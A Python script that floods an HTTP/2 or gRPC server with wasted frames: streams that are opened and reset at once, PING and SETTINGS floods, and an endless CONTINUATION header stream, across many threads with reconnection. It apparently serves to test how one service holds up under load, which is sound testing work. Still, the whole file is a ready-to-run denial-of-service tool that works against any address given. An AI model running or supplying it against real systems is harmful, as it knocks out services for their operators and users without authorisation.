#!/usr/bin/env python3
"""Sends frames of HTTP/2 that bring nothing, as fast as the other end takes
them: calls that are reset at once, pings, settings, a call whose headers never
end.

usage: http2_flood.py HOST:PORT KIND SECONDS [--certs FOLDER] [--connections N]
       [--path METHOD] [--from HOST] [--again]

Prints what it has sent, and when the other end hung up.  --again connects anew
then.
"""

import argparse
import os
import select
import socket
import ssl
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
KINDS = ("reset", "settings", "ping", "headers")
ACK, END_HEADERS = 1, 4
CANCEL = struct.pack(">I", 8)
BATCH = 4096  # frames, or pairs of them, in one write
# Methods of the two ports: an edge's, and the service's.
EDGE = "/gossamer.Edge/Exchange"
SERVICE = "/gossamer.wire.Topology/GetStatus"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(
        ">BBI", kind, flags, stream) + payload


def first_headers(path):
    """Returns the header block of a call, which puts four fields into the
    table of the connection, and the block that later calls refer to it with."""
    def literal(name, value):
        return name + bytes([len(value)]) + value.encode()
    static = b"\x83\x86"  # POST, http
    first = static + literal(b"\x44", path) + literal(b"\x41", "localhost")
    first += literal(b"\x40\x02te", "trailers")
    first += literal(b"\x5f", "application/grpc")
    return first, static + bytes([0x80 | k for k in (65, 64, 63, 62)])


def batches(kind, path):
    """Yields the bytes of one write after the other, without end."""
    if kind == "headers":
        yield frame(HEADERS, 0, 1, first_headers(path)[0])
        field = b"\0\1x\x64" + b"y" * 100  # a literal that no table keeps
        while True:
            yield frame(CONTINUATION, 0, 1, field * 150) * 64
    if kind != "reset":
        one = (frame(PING, 0, 0, b"12345678") if kind == "ping" else
               frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
        while True:
            yield one * BATCH
    block, later = first_headers(path)
    stream = 1
    while stream + 2 * BATCH < 2**31:
        calls = []
        for stream in range(stream, stream + 2 * BATCH, 2):
            calls += (frame(HEADERS, END_HEADERS, stream, block),
                      frame(RESET, 0, stream, CANCEL))
            block = later
        stream += 2
        yield b"".join(calls)


class Flood:
    """One connection that floods until it is ended, by either end.  `certs` is
    the folder of a certificate, which it has but may not show."""

    def __init__(self, host, port, kind, path=EDGE, certs=None,
                 source="127.0.0.1", shows=True):
        self.kind, self.path, self.sent = kind, path, 0
        self.socket = socket.create_connection((host, port), 10, (source, 0))
        if certs:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False  # the certificate names a peer
            context.load_verify_locations(os.path.join(certs, "ca.pem"))
            if shows:
                context.load_cert_chain(os.path.join(certs, "cert.pem"),
                                        os.path.join(certs, "key.pem"))
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket)
        self.socket.setblocking(False)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def run(self, seconds):
        """Returns whether the other end has hung up within that time."""
        end = time.monotonic() + seconds
        try:
            left = memoryview(PREFACE + frame(SETTINGS, 0, 0))
            more = batches(self.kind, self.path)
            while time.monotonic() < end:
                left = left or memoryview(next(more))
                left = left[self.write(left):]
                if not self.read():
                    return True
        except OSError:
            return True
        finally:
            self.socket.close()
        return False

    def write(self, data):
        try:
            count = self.socket.send(data)
            self.sent += count
            return count
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            select.select([self.socket], [self.socket], [], 0.1)
            return 0

    def read(self):
        """Drops the answers; returns False at their end."""
        try:
            return self.socket.recv(1 << 20) != b""
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("seconds", type=float)
    parser.add_argument("--certs")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--path", default=EDGE)
    parser.add_argument("--from", dest="source", default="127.0.0.1")
    parser.add_argument("--again", action="store_true")
    options = parser.parse_args()
    host, port = options.address.rsplit(":", 1)
    end = time.monotonic() + options.seconds
    began = time.monotonic()
    sent, ended, refused = [0], [0], [0]

    def flood():
        while time.monotonic() < end:
            try:
                one = Flood(host, int(port), options.kind, options.path,
                            options.certs, options.source)
            except OSError:
                refused[0] += 1
                time.sleep(0.01)
                continue
            hung_up = one.run(end - time.monotonic())
            sent[0] += one.sent
            ended[0] += hung_up
            if hung_up and ended[0] <= 5:
                print(f"hung up after {time.monotonic() - began:.3f} s and "
                      f"{one.sent} bytes", flush=True)
            if not options.again:
                return

    threads = [threading.Thread(target=flood)
               for _ in range(options.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(f"{options.kind}: {sent[0]} bytes, {ended[0]} connections ended by "
          f"the other end, {refused[0]} refused")


if __name__ == "__main__":
    main()
